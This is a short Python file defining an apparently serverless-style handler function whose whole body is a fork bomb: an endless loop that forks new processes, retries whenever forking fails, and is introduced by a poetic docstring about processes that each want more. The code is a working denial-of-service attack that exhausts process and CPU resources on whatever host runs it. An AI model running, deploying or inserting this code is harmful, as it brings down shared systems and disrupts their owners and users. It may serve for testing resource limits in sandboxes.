import os
import time


def handler(event, context):
    """As many processes as there may be, each of which wants more."""
    while True:
        try:
            if os.fork() == 0:
                continue
        except OSError:
            time.sleep(0.001)
